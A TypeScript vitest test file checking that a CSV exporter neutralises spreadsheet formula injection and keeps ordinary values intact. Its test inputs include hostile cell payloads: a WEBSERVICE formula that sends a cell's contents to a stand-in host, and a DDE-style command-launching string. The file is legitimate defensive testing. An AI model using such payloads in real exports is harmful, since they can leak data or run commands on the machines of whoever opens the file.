import { expect, test } from 'vitest';
import { csvCell, csvFile } from './csv.ts';

test.each([
  '=1+1',
  '+7 912',
  '@SUM(A1)',
  '-1+WEBSERVICE("http://e.example/?"&E2)',
  '-cmd|x!A0',
  ' =1+1',
  '\t=1+1',
  '-',
])('no sheet runs «%s» (S35)', (text) => {
  expect(csvCell(text)).toMatch(/^"?'/);
});

test('numbers and words stay as they are', () => {
  expect([-5, '-5', '-12,5', 0, null, '12', 'Ёлкина', 'M-12'].map(csvCell)).toEqual([
    '-5',
    '-5',
    '"-12,5"',
    '0',
    '',
    '12',
    'Ёлкина',
    'M-12',
  ]);
  expect(csvFile([['a;b', 'say "no"', 'two\nlines']])).toBe('\ufeff"a;b";"say ""no""";two lines\r\n');
});
